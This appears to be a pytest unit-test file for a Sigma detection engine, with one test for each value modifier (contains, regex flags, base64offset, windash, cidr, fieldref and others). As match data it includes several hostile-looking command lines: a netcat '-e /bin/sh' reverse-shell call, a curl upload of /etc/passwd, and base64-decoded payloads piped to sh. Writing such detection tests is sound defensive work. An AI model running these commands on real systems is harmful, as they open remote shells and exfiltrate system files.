"""One test per Sigma value modifier, each with events that must and must not match."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from tests.unit.collector.detection.detection_helpers import (
    engine_for,
    hit,
    process_event,
    rule_text,
    single_rule,
    titles,
)


def test_plain_value_is_whole_value_case_insensitive(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.name: Bash\ncondition: sel")
    assert hit(engine, name="bash")
    assert hit(engine, name="BASH")
    assert not hit(engine, name="bash2")
    assert not hit(engine, name="/bin/bash")


def test_contains(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.command_line|contains: ' -e /bin/sh'\ncondition: sel")
    assert hit(engine, command_line="nc -E /BIN/SH 10.0.0.1 4444")
    assert not hit(engine, command_line="nc 10.0.0.1 4444")


def test_startswith_and_endswith(tmp_path: Path) -> None:
    engine = single_rule(
        tmp_path,
        "sel:\n  process.executable|startswith: /tmp/\n  process.name|endswith: .sh\ncondition: sel",
    )
    assert hit(engine, executable="/tmp/x/run.sh", name="run.SH")
    assert not hit(engine, executable="/var/tmp/run.sh", name="run.sh")
    assert not hit(engine, executable="/tmp/run.sh", name="run.sh.bak")


def test_all_requires_every_value(tmp_path: Path) -> None:
    engine = single_rule(
        tmp_path, "sel:\n  process.command_line|contains|all: [curl, '-d @', http]\ncondition: sel"
    )
    assert hit(engine, command_line="curl -d @/etc/passwd http://x")
    assert not hit(engine, command_line="curl http://x")


def test_value_list_without_all_is_any(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.name: [wget, curl]\ncondition: sel")
    assert hit(engine, name="curl")
    assert hit(engine, name="wget")
    assert not hit(engine, name="nc")


@pytest.mark.parametrize(
    ("flags", "text", "expected"),
    [
        ("", "evil Payload", True),
        ("", "evil payload", False),  # case-sensitive without |i
        ("|i", "EVIL PAYLOAD", True),
        ("", "evil\nPayload", False),  # '.' does not cross lines without |s
        ("|s", "evil\nPayload", True),
        ("|m", "first\nevil Payload", True),
    ],
)
def test_re_with_flags(tmp_path: Path, flags: str, text: str, expected: bool) -> None:
    pattern = "^evil.Payload$" if flags != "|s" else "evil.Payload"
    engine = single_rule(tmp_path, f"sel:\n  process.command_line|re{flags}: '{pattern}'\ncondition: sel")
    assert hit(engine, command_line=text) is expected


def test_re_is_a_search_not_a_full_match(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.command_line|re: 'base64 +-d'\ncondition: sel")
    assert hit(engine, command_line="echo aGk= | base64  -d | sh")


def test_re_without_literals_still_matches_texts_at_its_minimum_length(tmp_path: Path) -> None:
    """Texts shorter than any match skip the RE2 call; texts of exactly the minimum length, longer
    ones, list elements and non-ASCII texts are still searched."""
    engine = single_rule(
        tmp_path, "sel:\n  process.command_line|re: '\\s[0-9a-f]{6}\\s[0-9]{2}'\ncondition: sel"
    )
    assert hit(engine, command_line=" abc123 45")  # exactly 10 characters, the minimum
    assert hit(engine, command_line="run x abc123 45 now")
    assert not hit(engine, command_line=" abc123 4")  # 9: shorter than any match
    assert hit(engine, command_line=["short", "é\tabc123\t45"])  # one element long enough, not ASCII
    assert not hit(engine, command_line=["short", "ééééééééééé"])


def test_regex_rejected_by_re2_is_a_load_error_and_others_load(tmp_path: Path) -> None:
    bad = rule_text("sel:\n  process.command_line|re: '(?<=x)y'\ncondition: sel", title="bad")
    good = rule_text("sel:\n  process.name: ok\ncondition: sel", title="good")
    engine = engine_for(tmp_path, bad, good)
    assert [rule.title for rule in engine.rules] == ["good"]
    assert len(engine.errors) == 1
    assert "RE2" in engine.errors[0].reason
    assert engine.errors[0].path.name == "rule_000.yml"


def test_cidr(tmp_path: Path) -> None:
    engine = engine_for(
        tmp_path,
        rule_text("sel:\n  source.ip|cidr: [10.0.0.0/8, 'fe80::/10']\ncondition: sel"),
    )
    event = process_event()
    event["source"] = {"ip": "10.20.30.40"}
    assert engine.match(event)
    event["source"] = {"ip": "fe80::1"}
    assert engine.match(event)
    event["source"] = {"ip": "11.0.0.1"}
    assert not engine.match(event)
    event["source"] = {"ip": "not an ip"}
    assert not engine.match(event)


def test_base64(tmp_path: Path) -> None:
    encoded = base64.b64encode(b"/bin/bash").decode()
    engine = single_rule(tmp_path, "sel:\n  process.command_line|base64|contains: /bin/bash\ncondition: sel")
    assert hit(engine, command_line=f"echo {encoded} | base64 -d")
    assert not hit(engine, command_line="echo /bin/bash")


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy"])
def test_base64offset_finds_the_text_at_any_alignment(tmp_path: Path, prefix: bytes) -> None:
    engine = single_rule(
        tmp_path, "sel:\n  process.command_line|base64offset|contains: 'http://'\ncondition: sel"
    )
    encoded = base64.b64encode(prefix + b"http://evil.example/").decode()
    assert hit(engine, command_line=f"sh -c {encoded}")
    assert not hit(engine, command_line="sh -c " + base64.b64encode(b"ftp://evil.example/").decode())


def test_windash_expands_dash_and_slash(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.command_line|windash|contains: ' -enc '\ncondition: sel")
    assert hit(engine, command_line="powershell -enc AAAA")
    assert hit(engine, command_line="powershell /enc AAAA")
    assert hit(engine, command_line="powershell \u2013enc AAAA")
    assert not hit(engine, command_line="powershell enc AAAA")


@pytest.mark.parametrize(
    ("modifier", "encoding"),
    [("wide", "utf-16le"), ("utf16le", "utf-16le"), ("utf16be", "utf-16be")],
)
def test_utf16_family(tmp_path: Path, modifier: str, encoding: str) -> None:
    engine = single_rule(
        tmp_path, f"sel:\n  process.command_line|{modifier}|base64offset|contains: ping\ncondition: sel"
    )
    for prefix in (b"", b"a", b"ab"):
        payload = prefix + "ping 1.2.3.4".encode(encoding)
        assert hit(engine, command_line=base64.b64encode(payload).decode()), (modifier, prefix)
    assert not hit(engine, command_line=base64.b64encode("pong".encode(encoding)).decode())


def test_utf16_prefixes_a_byte_order_mark(tmp_path: Path) -> None:
    # pySigma 1.5.1 renders |utf16 as U+FEFF followed by the UTF-16LE code units, each as a character.
    engine = single_rule(tmp_path, "sel:\n  process.command_line|utf16: ab\ncondition: sel")
    assert hit(engine, command_line="\ufeffa\x00b\x00")
    assert not hit(engine, command_line="a\x00b\x00")


def test_exists(tmp_path: Path) -> None:
    engine = engine_for(
        tmp_path,
        rule_text("sel:\n  process.hash.sha256|exists: true\ncondition: sel", title="has"),
        rule_text("sel:\n  process.hash.sha256|exists: false\ncondition: sel", title="lacks"),
    )
    with_hash = process_event(hash={"sha256": "ab" * 32})
    assert [m.rule.title for m in engine.match(with_hash)] == ["has"]
    assert [m.rule.title for m in engine.match(process_event())] == ["lacks"]


def test_cased(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.command_line|cased|contains: 'SECRET'\ncondition: sel")
    assert hit(engine, command_line="echo SECRET")
    assert not hit(engine, command_line="echo secret")


def test_neq(tmp_path: Path) -> None:
    engine = single_rule(
        tmp_path, "sel:\n  process.name: sudo\n  process.user.name|neq: root\ncondition: sel"
    )
    assert hit(engine, name="sudo", user={"name": "alice"})
    assert not hit(engine, name="sudo", user={"name": "ROOT"})


@pytest.mark.parametrize(
    ("modifier", "bound", "below", "at", "above"),
    [
        ("lt", 100, True, False, False),
        ("lte", 100, True, True, False),
        ("gt", 100, False, False, True),
        ("gte", 100, False, True, True),
    ],
)
def test_numeric_comparisons(
    tmp_path: Path, modifier: str, bound: int, below: bool, at: bool, above: bool
) -> None:
    engine = single_rule(tmp_path, f"sel:\n  process.pid|{modifier}: {bound}\ncondition: sel")
    event = process_event()
    results = []
    for pid in (bound - 1, bound, bound + 1):
        event["process"]["pid"] = pid
        results.append(bool(engine.match(event)))
    assert results == [below, at, above]
    event["process"]["pid"] = str(bound + 1)  # numeric strings compare as numbers
    assert bool(engine.match(event)) is above


def test_fieldref(tmp_path: Path) -> None:
    engine = single_rule(
        tmp_path, "sel:\n  process.executable|fieldref: process.parent.executable\ncondition: sel"
    )
    assert hit(engine, executable="/usr/bin/Bash", parent={"executable": "/usr/bin/bash"})
    assert not hit(engine, executable="/usr/bin/bash", parent={"executable": "/usr/bin/sshd"})
    assert not hit(engine, executable="/usr/bin/bash")


@pytest.mark.parametrize("prefiltered", [False, True])
def test_fieldref_equality_reads_lowered_texts_whoever_computed_them(
    tmp_path: Path, prefiltered: bool
) -> None:
    """The equality test reads the pre-filter's lowered texts when a literal rule on the same route
    scanned those fields (``prefiltered``), and computes them itself otherwise; lists match on any
    element, and an absent field on either side never matches."""
    same = rule_text("sel:\n  process.executable|fieldref: process.parent.executable\ncondition: sel")
    rules = [same]
    if prefiltered:
        literal = "a:\n  process.executable|contains: zz\nb:\n  process.parent.executable|contains: zz\n"
        rules.append(rule_text(literal + "condition: a or b", title="literal rule"))
    engine = engine_for(tmp_path, *rules)
    assert engine.errors == []

    def same_image(**process: object) -> bool:
        return "test rule" in titles(engine, process_event(**process))

    assert same_image(executable="/usr/bin/ZZ", parent={"executable": "/usr/bin/zz"})
    assert same_image(executable=["/bin/a", "/bin/b"], parent={"executable": ["/bin/c", "/BIN/B"]})
    assert not same_image(executable=["/bin/a", "/bin/b"], parent={"executable": "/bin/c"})
    assert not same_image(executable="/bin/zz", parent={"executable": "/bin/zz2"})
    assert not same_image(parent={"executable": "/bin/zz"})
    assert not same_image(executable="/bin/zz", parent={})
    assert not same_image(executable=None, parent={"executable": None})


def test_fieldref_with_contains(tmp_path: Path) -> None:
    engine = single_rule(
        tmp_path, "sel:\n  process.command_line|fieldref|contains: user.name\ncondition: sel"
    )
    event = process_event(command_line="passwd mallory")
    event["user"] = {"name": "Mallory"}
    assert engine.match(event)
    event["user"] = {"name": "bob"}
    assert not engine.match(event)


def test_expand_uses_configured_placeholders(tmp_path: Path) -> None:
    from collector.detection import CompileOptions, DetectionEngine

    directory = tmp_path / "rules"
    directory.mkdir()
    (directory / "r.yml").write_text(
        rule_text("sel:\n  user.name|expand: '%admins%'\ncondition: sel"), encoding="utf-8"
    )
    options = CompileOptions(placeholders={"admins": ["alice", "bob"]})
    engine = DetectionEngine.from_paths([directory], options=options)
    assert engine.errors == []
    event = process_event()
    event["user"] = {"name": "Bob"}
    assert engine.match(event)
    event["user"] = {"name": "eve"}
    assert not engine.match(event)
    unconfigured = DetectionEngine.from_paths([directory])
    assert unconfigured.rules == []
    assert "%admins%" in unconfigured.errors[0].reason


def test_timestamp_part(tmp_path: Path) -> None:
    engine = single_rule(tmp_path, "sel:\n  process.start|hour: 3\ncondition: sel")
    assert hit(engine, start="2026-11-22T03:15:00Z")
    assert not hit(engine, start="2026-11-22T13:15:00Z")
    assert not hit(engine, start="not a time")
